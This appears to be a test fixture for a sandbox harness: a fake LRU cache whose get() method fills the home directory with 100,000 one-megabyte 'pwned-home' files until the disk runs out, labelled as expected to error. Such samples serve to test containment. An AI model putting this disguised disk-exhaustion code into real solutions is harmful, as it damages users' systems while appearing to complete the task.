# expect: error
# backends: docker local
# why: fills its home directory until the file system refuses
import os


class LRUCache:
    def __init__(self, capacity):
        pass

    def get(self, key):
        home = os.path.expanduser("~")
        chunk = b"z" * (1 << 20)
        for i in range(100_000):
            with open(os.path.join(home, f"pwned-home-{i}"), "wb") as fh:
                fh.write(chunk)
        return -1

    def put(self, key, value):
        pass
